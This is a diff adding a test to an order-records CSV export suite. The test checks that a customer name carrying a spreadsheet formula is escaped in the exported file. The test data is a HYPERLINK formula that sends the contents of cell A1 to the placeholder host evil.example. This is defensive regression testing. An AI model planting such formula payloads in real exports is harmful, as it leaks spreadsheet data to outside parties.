@@ -78,6 +78,33 @@ describe.each(BACKENDS)('order records export on %s (issue 17 §4)', (dialect) =
     ).toBe(403);
   });
 
+  it('escapes a formula in a customer name (issue 38 §4)', async () => {
+    const products = await productsByName(t.app);
+    const name = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
+    const placed = await t.app.inject({
+      method: 'POST',
+      url: '/api/orders/simple',
+      payload: orderBody([cartLine(products.get('Rolling Papers')!, '1')], [...products.values()], {
+        customer: name,
+      }),
+    });
+    expect(placed.statusCode).toBe(201);
+    const { shop_date } = await t.db.kysely
+      .selectFrom('orders')
+      .select('shop_date')
+      .where('id', '=', placed.json().id)
+      .executeTakeFirstOrThrow();
+    const owner = await dealerClient(t);
+    const res = await owner.send(
+      'GET',
+      `/api/records/orders.csv?from=${shop_date}&to=${shop_date}`,
+    );
+    const [header, ...rows] = parse(res.body) as string[][];
+    const row = rows.find((r) => r[0] === String(placed.json().id))!;
+    expect(row[header!.indexOf('Customer')]).toBe(`'${name}`);
+    expect(res.body).not.toMatch(/(^|,)"?=HYPERLINK/m);
+  });
+
   it('keeps who handled each order, the customer number, the ID check, the signature and why a delivery came back', async () => {
     const owner = await dealerClient(t);
     const packer = await staffClient(t, owner, 'dispatcher', 'pat');
